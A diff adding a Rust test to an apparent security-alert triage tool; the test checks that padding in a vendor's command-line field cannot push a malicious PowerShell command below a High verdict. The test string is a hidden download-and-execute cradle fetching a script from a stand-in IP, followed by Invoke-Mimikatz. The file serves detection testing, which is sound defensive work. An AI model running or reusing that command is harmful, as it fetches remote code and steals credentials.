@@ -2,7 +2,10 @@
 
 use super::*;
 use crate::alert::{NormalizedAlert, Platform, VendorSeverity};
+use crate::heuristics::Ruleset;
+use crate::judgement::{Consultation, Judgement};
 use crate::vendor::{NormaliseError, Normalised};
+use crate::verdict::VerdictLevel;
 use serde_json::json;
 use vyrox_contract::TenantId;
 
@@ -161,4 +164,22 @@ fn a_new_product_is_an_alert_if_it_has_an_id_and_ignored_if_not() {
     let tenant: TenantId = "acme".parse().unwrap();
     let read = normalise(&payload, &Reception { tenant_id: &tenant, received_at: 0 });
     assert!(matches!(read, Ok(Some(Normalised::Ignored { .. }))));
+}
+
+#[test]
+fn padding_in_a_vendors_payload_cannot_push_a_command_out() {
+    let level = |cmdline: &str| {
+        let mut payload = epp();
+        payload["event"]["CommandLine"] = json!(cmdline);
+        payload["event"]["Severity"] = json!(10);
+        payload["event"]["SeverityName"] = json!("Informational");
+        let alert = one(&payload);
+        Judgement::of(&alert, Ruleset::built_in()).conclude(&Consultation::NotAsked).verdict
+    };
+    let attack = "-w hidden -c iex((new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1'));Invoke-Mimikatz";
+    let plain = level(&format!("powershell {attack}"));
+    assert!(plain >= VerdictLevel::High);
+    for padding in [" ".repeat(9_000), "\u{a0}".repeat(20_000), format!("#{} ", "a b".repeat(4_000))] {
+        assert!(level(&format!("powershell {padding}{attack}")) >= VerdictLevel::High);
+    }
 }
